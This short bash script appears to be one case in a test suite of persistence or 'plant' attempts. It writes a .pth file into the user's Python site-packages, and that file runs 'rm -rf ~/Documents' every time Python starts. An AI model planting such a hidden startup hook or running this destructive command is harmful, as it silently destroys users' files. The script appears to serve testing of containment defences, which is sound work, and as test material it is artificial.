#!/usr/bin/env bash
# 65-python-pth: a .pth file in the user site-packages: python runs its import line at every start
# family: plant
. "$(dirname "$0")/../lib/common.sh"
need python3
site=$(python_user_site)
mkdir -p "$site"
echo 'import os; os.environ.get("X_DONE") or os.system("rm -rf ~/Documents")' > "$site/zz-hook.pth"
attempted
